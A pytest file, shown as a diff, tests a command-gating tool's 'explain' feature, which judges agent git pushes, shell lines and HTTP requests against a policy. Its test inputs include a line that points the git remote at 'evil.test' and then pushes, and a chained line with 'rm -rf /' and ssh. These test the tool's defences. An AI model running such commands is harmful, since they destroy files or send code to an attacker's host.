@@ -1,0 +1,154 @@
+"""`sekisho explain`: pushes by the rules of the policy, command lines by their parts, rows by their form."""
+
+import io
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.support.git import run_git
+from tests.support.needs import needs
+from tests.unit.cli.calling import Calling
+
+pytestmark = needs("git")
+
+POLICY = """version = 1
+[git]
+push = [{ ref = "agent/*", gate = "auto" }, { ref = "secret/*", gate = "never" }]
+
+[[command]]
+match = ["git", "push", "origin", "agent/asked"]
+gate = "human"
+
+[[network.rule]]
+host = "closed.test"
+effect = "forbidden"
+
+[[network.rule]]
+host = "open.test"
+method = "POST"
+effect = "read"
+"""
+
+
+@pytest.fixture
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    folder = tmp_path / "project"
+    folder.mkdir()
+    run_git("init", "-q", "-b", "main", cwd=folder)
+    run_git("commit", "-q", "--allow-empty", "-m", "one", cwd=folder)
+    for branch in ("agent/x", "agent/asked", "secret/x"):
+        run_git("branch", branch, cwd=folder)
+    for name, url in (("origin", "https://git.test/x.git"), ("closed", "https://closed.test/x.git")):
+        run_git("remote", "add", name, url, cwd=folder)
+    (folder / "sekisho.toml").write_text(POLICY)
+    monkeypatch.chdir(folder)
+    return folder
+
+
+@pytest.fixture
+def trusted(project: Path, call: Calling) -> Path:
+    assert call("policy", "trust", "--yes").status == 0
+    return project
+
+
+def explained(call: Calling, *args: str) -> dict[str, Any]:
+    ended = call("explain", "--json", *args)
+    assert ended.status == 0, ended.err
+    answer: dict[str, Any] = ended.json()
+    return answer
+
+
+@pytest.mark.parametrize(
+    ("words", "verdict", "code"),
+    [
+        ("origin agent/x", "allow", "push-by-rule"),
+        ("origin HEAD:refs/heads/agent/x", "allow", "push-by-rule"),
+        ("origin agent/new", "allow", "push-by-rule"),
+        ("origin main agent/x", "hold", "held-push"),
+        ("origin secret/x", "deny", "forbidden-by-rule"),
+        ("--force origin agent/x", "hold", "force-push"),
+        ("--force origin main", "deny", "protected-ref"),
+        ("origin :main", "deny", "protected-ref"),
+        ("origin :agent/x", "hold", "ref-deletion"),
+        ("https://elsewhere.test/x.git agent/x", "hold", "held-push"),
+        ("origin agent/asked", "hold", "command-rule"),
+        ("closed agent/x", "deny", "forbidden-by-rule"),
+        ("--mirror", "hold", "held-push"),
+    ],
+)
+def test_a_push_is_judged_ref_by_ref(
+    call: Calling, trusted: Path, words: str, verdict: str, code: str
+) -> None:
+    answer = explained(call, "--", "git", "push", *words.split())
+    assert (answer["verdict"], answer["code"]) == (verdict, code)
+
+
+def test_what_a_push_that_would_go_through_rests_on_is_told(call: Calling, trusted: Path) -> None:
+    assert "the remote was not asked" in call("explain", "--", "git", "push", "origin", "agent/x").out
+    assert "notes" not in explained(call, "--", "git", "push", "origin", "main")
+
+
+def test_why_the_refs_of_a_push_cannot_be_told_is_told(call: Calling, trusted: Path) -> None:
+    assert "--mirror" in explained(call, "--", "git", "push", "--mirror")["notes"][0]
+    line = "git remote set-url origin https://evil.test/x; git push origin agent/x"
+    answer = explained(call, "--shell", line)
+    assert answer["verdict"] == "hold"
+    assert "another part of the same line" in answer["notes"][0]
+
+
+def test_a_push_outside_of_any_repository_is_held(
+    call: Calling, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    answer = explained(call, "--", "git", "push", "https://git.test/x.git", "main")
+    assert answer["verdict"] == "hold"
+    assert "knows no repository" in answer["notes"][0]
+
+
+def test_a_policy_that_is_not_trusted_does_not_count_and_that_is_told(call: Calling, project: Path) -> None:
+    asked = ("explain", "--http", "POST", "https://open.test/v1")
+    before = call(*asked)
+    assert before.out.startswith("hold")
+    assert "sekisho.toml is not trusted as it stands" in before.err
+    assert call("policy", "trust", "--yes").status == 0
+    after = call(*asked)
+    assert after.out.startswith("allow")
+    assert after.err == ""
+    (project / "sekisho.toml").write_text(POLICY + "# changed\n")
+    assert call(*asked).out.startswith("hold")
+
+
+def test_a_named_policy_counts_and_the_projects_is_not_asked_about(
+    call: Calling, project: Path, tmp_path: Path
+) -> None:
+    named = call("explain", "--policy", project / "sekisho.toml", "--http", "POST", "https://open.test/v1")
+    assert (named.out.split()[0], named.err) == ("allow", "")
+
+
+def test_every_part_of_a_line_is_judged_and_shown(call: Calling, trusted: Path) -> None:
+    line = "git status; rm -rf /; (ssh x)"
+    answer = explained(call, "--shell", line)
+    assert (answer["verdict"], answer["effect"]) == ("hold", "external")
+    assert [part["verdict"] for part in answer["parts"]] == ["allow", "hold", "hold"]
+    shown = call("explain", "--shell", line).out
+    for part in ("file.delete /", "ssh x", "allow: git"):
+        assert part in shown
+
+
+def test_a_rule_about_a_part_that_is_not_the_worst_counts(call: Calling, trusted: Path) -> None:
+    (trusted / "sekisho.toml").write_text('version = 1\n[[command]]\nmatch = ["make", "x"]\ngate = "never"\n')
+    assert call("policy", "trust", "--yes").status == 0
+    assert explained(call, "--shell", "make x; ssh there")["verdict"] == "deny"
+
+
+@pytest.mark.parametrize("row", ['{"http": ["GET", "https://x.test/"]}', "{}", '"text"', "[", "{"])
+def test_a_row_of_no_known_form_is_held_and_says_why(
+    call: Calling, monkeypatch: pytest.MonkeyPatch, row: str
+) -> None:
+    rows = f'{row}\n{{"id": 2, "method": "GET", "url": "https://x.test/"}}\n'
+    monkeypatch.setattr("sys.stdin", io.StringIO(rows))
+    first, second = map(json.loads, call("explain", "--jsonl").out.splitlines())
+    assert (first["verdict"], first["code"]) == ("hold", "row-unreadable")
+    assert (second["id"], second["verdict"]) == (2, "allow")
